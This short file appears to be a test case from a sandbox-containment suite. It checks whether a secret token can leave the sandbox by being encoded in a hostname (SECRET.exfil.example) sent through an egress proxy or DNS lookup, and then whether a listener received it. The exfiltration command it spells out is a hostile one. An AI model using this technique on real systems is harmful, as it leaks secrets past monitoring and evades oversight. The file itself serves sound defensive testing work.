# SPDX-License-Identifier: LGPL-2.1-or-later
class=network
what="exfiltration in the name the egress proxy would resolve (CONNECT SECRET.exfil.example:443; without a proxy, a direct connection whose lookup the resolver logs)"
timeout=15
# Through the egress proxy if the sandbox has one (lib.sh, via_proxy_cmd).
cmd=$(via_proxy_cmd "$(secret tok).exfil.example" 443 "$(secret tok)")
applies() { [ "$ESC_MODE" != open ]; }
happened() { listener_saw "$(secret tok)"; }
